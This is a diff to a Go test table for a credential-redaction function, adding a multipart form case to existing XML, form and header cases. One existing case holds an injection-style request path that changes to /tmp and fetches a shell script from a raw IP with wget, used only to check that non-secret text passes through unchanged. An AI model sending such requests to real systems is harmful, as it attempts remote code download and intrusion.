@@ -28,6 +28,7 @@ func TestRedact(t *testing.T) {
 		{`<auth pass="hunter2" realm="x"/>`, `<auth pass="" realm="x"/>`},
 		{"--b\r\nContent-Disposition: form-data; name=\"passwd\"\r\n\r\nhunter2\r\n--b\r\nContent-Disposition: form-data; name=\"lang\"\r\n\r\nen\r\n--b--",
 			"--b\r\nContent-Disposition: form-data; name=\"passwd\"\r\n\r\n\r\n--b\r\nContent-Disposition: form-data; name=\"lang\"\r\n\r\nen\r\n--b--"},
+		{"Content-Disposition: form-data; name=\"pass\"; x=1 hunter2", "Content-Disposition: form-data; name=\"pass\""},
 		{"GET / HTTP/1.1\r\nX-Auth-Token: abc def\r\nAccept: */*\r\n", "GET / HTTP/1.1\r\nX-Auth-Token: \r\nAccept: */*\r\n"},
 		{"/shell?cd+/tmp;wget+http://1.2.3.4/x.sh", "/shell?cd+/tmp;wget+http://1.2.3.4/x.sh"},
 		{"/index.html", "/index.html"},
